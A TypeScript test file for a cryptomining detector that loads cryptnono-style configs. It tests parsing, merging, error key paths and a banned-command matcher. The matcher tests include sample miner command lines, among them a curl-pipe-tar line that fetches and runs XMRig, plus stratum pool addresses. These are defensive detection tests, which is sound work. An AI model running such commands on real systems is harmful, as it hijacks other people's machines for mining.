/** The `detectors` section and standalone detectors files: cryptnono's values as they are, merging, errors with their key paths. */
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import type { DetectorsConfig } from '../src/detectors/config.js';
import { loadDetectorsFiles } from '../src/detectors/cryptnono-files.js';
import { DEFAULT_BANNED_CONFIG, DEFAULT_BANNED_FILE, effectiveExecConfigs } from '../src/detectors/execwhacker/index.js';
import { DEFAULT_EXEMPT_CIDRS, TcpFlowKiller } from '../src/detectors/tcpflowkiller/index.js';
import { parseIp } from '../src/platform/ip.js';
import { ConfigError, type ConfigProblem, defaultConfig, parseConfig, wholeConfigCheck } from '../src/config/load.js';
import { ExecMatcher } from '../src/detectors/execwhacker/matcher.js';
import { execMatcherFromConfig } from '../src/detectors/execwhacker/index.js';

const dir = mkdtempSync(join(tmpdir(), 'minewatch-detectors-'));
function file(name: string, text: string): string {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
}

const detectorsOf = (text: string): DetectorsConfig => parseConfig(text, 'c.yaml').config.detectors as DetectorsConfig;

function problemsOf(fn: () => unknown): ConfigProblem[] {
  try {
    fn();
  } catch (e) {
    if (e instanceof ConfigError) return e.problems;
    throw e;
  }
  assert.fail('expected a ConfigError');
}

/** cryptnono's example/config.json, exactly. */
const CRYPTNONO_EXAMPLE = `{
  "bannedCommandStrings": [
    "cryptnono.banned.string1"
  ],
  "allowedCommandPatterns": [
    ".*allowed\\\\s+cryptnono\\\\.banned\\\\.string1"
  ]
}`;

test('defaults: every detector off, cryptnono\'s FlowKiller defaults, private ranges exempt, rescan every 10 s', () => {
  const d = defaultConfig().detectors as DetectorsConfig;
  assert.deepEqual(d, {
    execwhacker: { enabled: false, debug: false, rescan_interval_s: 10, default_list: true, spare_readers: false, configs: {} },
    monero: { enabled: false },
    tcpflowkiller: {
      enabled: false,
      debug: false,
      config: { FlowKiller: { banned_ipv4_file_globs: [], lookback_duration_seconds: 30, unique_destinations_threshold: 15, log_connects: false, log_container_info: true, debug: false } },
      exempt_cidrs: [...DEFAULT_EXEMPT_CIDRS],
    },
    notes: [],
  });
});

test("cryptnono's chart values work unchanged in the detectors section; deployment keys are noted and skipped", () => {
  const d = detectorsOf(`
detectors:
  execwhacker:
    enabled: true
    debug: false
    resources: {requests: {cpu: 10m}}
    threadpoolSize: 10
    containerdHostPath: /run/containerd/containerd.sock
    metrics:
      enabled: true
      port: 12121
    configs:
      config-name-1:
        bannedCommandStrings:
        - string-1
        - string-2
      config-name-2:
        bannedCommandStrings:
        - string-3
        - string-4
        allowedCommandPatterns:
        - ^(/usr/bin/)?ls.*$
  monero:
    enabled: true
    resources: {}
  tcpflowkiller:
    enabled: true
    bannedIpv4ConfigMaps: [banned-ips]
    env: [{name: X, value: "1"}]
    config:
      FlowKiller:
        banned_ipv4_file_globs: [/ban-config/*.txt]
        lookback_duration_seconds: 60
        unique_destinations_threshold: 100
        log_connects: true
        log_container_info: false
        metrics_port: 12122
`);
  assert.equal(d.execwhacker.enabled, true);
  assert.deepEqual(d.execwhacker.configs, {
    'config-name-1': { bannedCommandStrings: ['string-1', 'string-2'], allowedCommandPatterns: [] },
    'config-name-2': { bannedCommandStrings: ['string-3', 'string-4'], allowedCommandPatterns: ['^(/usr/bin/)?ls.*$'] },
  });
  assert.equal(d.monero.enabled, true);
  assert.deepEqual(d.tcpflowkiller.config.FlowKiller, {
    banned_ipv4_file_globs: ['/ban-config/*.txt'], lookback_duration_seconds: 60, unique_destinations_threshold: 100, log_connects: true, log_container_info: false, debug: false,
  });
  assert.deepEqual(d.notes.map((n) => n.path).sort(), [
    'execwhacker.containerdHostPath', 'execwhacker.metrics', 'execwhacker.resources', 'execwhacker.threadpoolSize',
    'monero.resources', 'tcpflowkiller.bannedIpv4ConfigMaps', 'tcpflowkiller.config.FlowKiller.metrics_port', 'tcpflowkiller.env',
  ]);
  // The README's example behaves as its text says.
  const m = execMatcherFromConfig({ execwhacker: { ...d.execwhacker, default_list: false } });
  assert.equal(m.matchCmdline('run string-3 now').kill, true);
  assert.equal(m.matchCmdline('/usr/bin/ls string-3').spared, 'allowed');
});

test('execwhacker.enabled left unset beside configs is a note (cryptnono\'s chart would have turned it on)', () => {
  const d = detectorsOf('detectors:\n  execwhacker:\n    configs:\n      a:\n        bannedCommandStrings: [x]\n');
  assert.equal(d.execwhacker.enabled, false);
  assert.deepEqual(d.notes.map((n) => n.path), ['execwhacker']);
  assert.match(d.notes[0]!.message, /enabled is not set/);
});

test('Helm nulls mean unset; empty banned strings are skipped with a note', () => {
  const d = detectorsOf('detectors:\n  execwhacker:\n    enabled: true\n    configs:\n      a: null\n      b:\n        bannedCommandStrings: ["", x]\n        allowedCommandPatterns: null\n  monero: null\n');
  assert.deepEqual(d.execwhacker.configs, { b: { bannedCommandStrings: ['x'], allowedCommandPatterns: [] } });
  assert.deepEqual(d.notes.map((n) => n.path), ['execwhacker.configs.b.bannedCommandStrings.0']);
});

test('every error names the key path and its line: wrong types, unknown keys, regexes that do not compile, bad CIDRs', () => {
  const text = [
    'detectors:', //                                1
    '  execwhacker:', //                            2
    '    enabled: "yes"', //                        3
    '    confgs: {}', //                            4
    '    rescan_interval_s: -1', //                 5
    '    configs:', //                              6
    '      miners:', //                             7
    '        bannedCommandStrings: [xmrig, 42]', // 8
    '        allowedCommandPatterns:', //           9
    '        - "^ok$"', //                          10
    '        - "(unclosed"', //                     11
    '        allowedCommandPattern: []', //         12
    '  tcpflowkiller:', //                          13
    '    exempt_cidrs: [10.0.0.0/8, 10.0.0.0/33, nonsense]', // 14
    '    config:', //                               15
    '      FlowKiller:', //                         16
    '        lookback_duration_seconds: soon', //   17
    '        banned_ipv4_file_glob: []', //         18
    '  randomx:', //                                19
    '    enabled: true', //                         20
    '',
  ].join('\n');
  const ps = problemsOf(() => parseConfig(text, 'c.yaml'));
  const got = ps.map((p) => `${p.file}:${p.line} ${p.path}`).sort();
  assert.deepEqual(got, [
    'c.yaml:11 detectors.execwhacker.configs.miners.allowedCommandPatterns.1',
    'c.yaml:12 detectors.execwhacker.configs.miners.allowedCommandPattern',
    'c.yaml:14 detectors.tcpflowkiller.exempt_cidrs.1',
    'c.yaml:14 detectors.tcpflowkiller.exempt_cidrs.2',
    'c.yaml:17 detectors.tcpflowkiller.config.FlowKiller.lookback_duration_seconds',
    'c.yaml:18 detectors.tcpflowkiller.config.FlowKiller.banned_ipv4_file_glob',
    'c.yaml:19 detectors.randomx',
    'c.yaml:3 detectors.execwhacker.enabled',
    'c.yaml:4 detectors.execwhacker.confgs',
    'c.yaml:5 detectors.execwhacker.rescan_interval_s',
    'c.yaml:8 detectors.execwhacker.configs.miners.bannedCommandStrings.1',
  ]);
  const regex = ps.find((p) => p.path.endsWith('allowedCommandPatterns.1'))!;
  assert.match(regex.message, /does not compile as a regular expression: missing \), unterminated subpattern at position 0: "\(unclosed"/);
  assert.match(ps.find((p) => p.path.endsWith('exempt_cidrs.2'))!.message, /not a CIDR/);
});

test('standalone files: unknown keys name the keys that are known there', () => {
  const f = file('typo.yaml', 'detectors:\n  execwhacker:\n    configs:\n      a:\n        bannedCommandString: [x]\n');
  const [p, ...rest] = problemsOf(() => loadDetectorsFiles([f]));
  assert.equal(rest.length, 0);
  assert.deepEqual({ path: p!.path, line: p!.line, col: p!.col }, { path: 'detectors.execwhacker.configs.a.bannedCommandString', line: 5, col: 9 });
  assert.match(p!.message, /known keys here: bannedCommandStrings, allowedCommandPatterns/);
});

test("cryptnono's example config.json loads as one config named after its file; its errors name the key", () => {
  const f = file('execwhacker-example.json', CRYPTNONO_EXAMPLE);
  const l = loadDetectorsFiles([f]);
  assert.deepEqual(l.files, [{ file: f, kind: 'cryptnono-config' }]);
  assert.deepEqual(l.detectors.execwhacker.configs, {
    example: { bannedCommandStrings: ['cryptnono.banned.string1'], allowedCommandPatterns: ['.*allowed\\s+cryptnono\\.banned\\.string1'] },
  });
  assert.deepEqual(l.warnings, []);
  const m = new ExecMatcher(effectiveExecConfigs({ execwhacker: { ...l.detectors.execwhacker, default_list: false } }));
  assert.equal(m.match(['sleep', '1000', 'CRYPTNONO.banned.STRING1']).kill, true);
  assert.equal(m.match(['sleep', '1000', 'allowed', 'cryptnono.BANNED.string1']).spared, 'allowed');

  const bad = file('bad.json', '{\n  "bannedCommandStrings": ["ok"],\n  "allowedCommandPatterns": ["[z-a]"],\n  "extra": 1\n}\n');
  const ps = problemsOf(() => loadDetectorsFiles([bad]));
  assert.deepEqual(ps.map((p) => `${p.file}:${p.line}:${p.col} ${p.path}`), [`${bad}:3:30 allowedCommandPatterns.0`, `${bad}:4:3 extra`]);
  assert.match(ps[0]!.message, /bad character range/);
});

test('several files merge as cryptnono merges them: lists of a config name concatenate, later scalars win', () => {
  const a = file('a.yaml', `
detectors:
  execwhacker:
    enabled: true
    rescan_interval_s: 5
    configs:
      shared: {bannedCommandStrings: [one, two], allowedCommandPatterns: ['^a']}
      onlyA: {bannedCommandStrings: [a]}
  tcpflowkiller:
    exempt_cidrs: [10.0.0.0/8]
    config: {FlowKiller: {banned_ipv4_file_globs: [/a/*.txt], unique_destinations_threshold: 20}}
image: {repository: quay.io/yuvipanda/cryptnono, tag: x}
tolerations: [{operator: Exists}]
`);
  const b = file('b.yaml', `
detectors:
  execwhacker:
    enabled: false
    configs:
      shared: {bannedCommandStrings: [two, three], allowedCommandPatterns: ['^b']}
  tcpflowkiller:
    exempt_cidrs: [192.168.0.0/16]
    config: {FlowKiller: {banned_ipv4_file_globs: [/b/*.txt, /a/*.txt]}}
`);
  const json = file('execwhacker-extra.json', '{"bannedCommandStrings": ["four"]}');
  const l = loadDetectorsFiles([a, b, json]);
  const d = l.detectors;
  assert.equal(d.execwhacker.enabled, false, 'the later file wins');
  assert.equal(d.execwhacker.rescan_interval_s, 5, 'a scalar the later file leaves out keeps its value');
  assert.deepEqual(d.execwhacker.configs, {
    shared: { bannedCommandStrings: ['one', 'two', 'three'], allowedCommandPatterns: ['^a', '^b'] },
    onlyA: { bannedCommandStrings: ['a'], allowedCommandPatterns: [] },
    extra: { bannedCommandStrings: ['four'], allowedCommandPatterns: [] },
  });
  assert.deepEqual(d.tcpflowkiller.config.FlowKiller.banned_ipv4_file_globs, ['/a/*.txt', '/b/*.txt']);
  assert.equal(d.tcpflowkiller.config.FlowKiller.unique_destinations_threshold, 20);
  assert.deepEqual(d.tcpflowkiller.exempt_cidrs, ['192.168.0.0/16'], 'exempt_cidrs is replaced, so a range can be taken off');
  assert.deepEqual(l.files.map((f) => f.kind), ['chart-values', 'chart-values', 'cryptnono-config']);
  // The chart's own top-level settings are warnings with their line.
  assert.deepEqual(l.warnings.map((w) => `${w.line} ${w.path}`), ['12 image', '13 tolerations']);
});

test('a parent chart with cryptnono as a subchart; a minewatch config is checked whole', () => {
  const sub = file('support.values.yaml', 'grafana: {enabled: true}\ncryptnono:\n  detectors:\n    execwhacker:\n      resources: {}\n      configs:\n        x: {bannedCommandStrings: [x]}\n');
  const l = loadDetectorsFiles([sub]);
  assert.deepEqual(Object.keys(l.detectors.execwhacker.configs), ['x']);
  assert.deepEqual(l.warnings.map((w) => `${w.line} ${w.path}`), ['1 grafana', '5 cryptnono.detectors.execwhacker.resources', '4 cryptnono.detectors.execwhacker']);

  const mw = file('minewatch.yaml', 'sources:\n  cpu:\n    threshold: -1\ndetectors:\n  execwhacker:\n    enabled: true\n');
  const ps = problemsOf(() => loadDetectorsFiles([mw], wholeConfigCheck()));
  assert.deepEqual(ps.map((p) => `${p.line} ${p.path}`), ['3 sources.cpu.threshold']);
  const ok = file('minewatch-ok.yaml', 'rules_files: [default]\ndetectors:\n  execwhacker:\n    enabled: true\n');
  assert.deepEqual(loadDetectorsFiles([ok], wholeConfigCheck()).files.map((f) => f.kind), ['minewatch-config']);
  const junk = file('junk.yaml', 'hello: world\n');
  assert.match(problemsOf(() => loadDetectorsFiles([junk]))[0]!.message, /expected cryptnono's config\.json/);
});

test('the shipped banned list loads, is off, comes first, and can be left out', () => {
  const l = loadDetectorsFiles([DEFAULT_BANNED_FILE]);
  assert.deepEqual(l.warnings, []);
  assert.equal(l.detectors.execwhacker.enabled, false);
  assert.deepEqual(Object.keys(l.detectors.execwhacker.configs), [DEFAULT_BANNED_CONFIG]);
  const d = detectorsOf('detectors:\n  execwhacker:\n    enabled: true\n    configs:\n      mine: {bannedCommandStrings: [evil-tool]}\n');
  assert.deepEqual(effectiveExecConfigs(d).map((c) => c.name), [DEFAULT_BANNED_CONFIG, 'mine']);
  assert.deepEqual(effectiveExecConfigs({ execwhacker: { ...d.execwhacker, default_list: false } }).map((c) => c.name), ['mine']);
});

test('the shipped list kills miners and spares everyday command lines', () => {
  const m = execMatcherFromConfig(defaultConfig().detectors as DetectorsConfig);
  const miners = [
    ['/tmp/.x/xmrig', '-o', 'pool.supportxmr.com:443', '-u', '4Abc', '--donate-level', '1'],
    ['./kdevtmpfsi'],
    ['python3', 'miner.py', '--url', 'stratum+tcp://198.51.100.23:3333'],
    ['./systemd-helper', '-o', 'gulf.moneroocean.stream:10128', '-k'],
    ['/dev/shm/x', '--algo=rx/0', '-o', '198.51.100.7:3333'],
    ['sh', '-c', 'curl -s http://198.51.100.7/XMRig.tar.gz | tar xz && ./xmrig'],
    ['./t', '-o', 'STRATUM+SSL://eu.nanopool.org:14433'],
    ['nanominer', 'config.ini'],
  ];
  for (const argv of miners) assert.equal(m.match(argv).kill, true, argv.join(' '));
  const benign = [
    ['ls', '-la', '/var/log'], ['git', 'clone', 'https://github.com/torvalds/linux'], ['pgrep', 'kswapd0'],
    ['java', '-cp', '/app/lib/a.jar:/app/lib/b.jar', 'com.example.Main'], ['python3', '-m', 'pip', 'install', 'requests'],
    ['grep', '-r', 'donate', 'src/'], ['node', '/app/server.js', '--port', '8080'], ['make', '-j8', 'libxmrig_docs'],
    ['cc', '-O2', '-o', 'stratum', 'stratum.c'], ['vim', 'notes.md'], ['kubectl', 'get', 'pods', '-A'],
  ];
  for (const argv of benign) assert.equal(m.match(argv).kill, false, argv.join(' '));
});

test('exempt_cidrs defaults to the very list tcpflowkiller uses when it is given none', () => {
  assert.deepEqual(defaultConfig().detectors.tcpflowkiller.exempt_cidrs, DEFAULT_EXEMPT_CIDRS);
  const k = new TcpFlowKiller({ watch: false, reloadIntervalMs: 0 });
  for (const ip of ['10.1.2.3', '100.64.0.1', '198.51.100.7', 'fd00::1', 'fe80::1']) assert.equal(k.isExempt(parseIp(ip)!), true, ip);
  assert.equal(k.isExempt(parseIp('1.1.1.1')!), false);
  k.close();
});
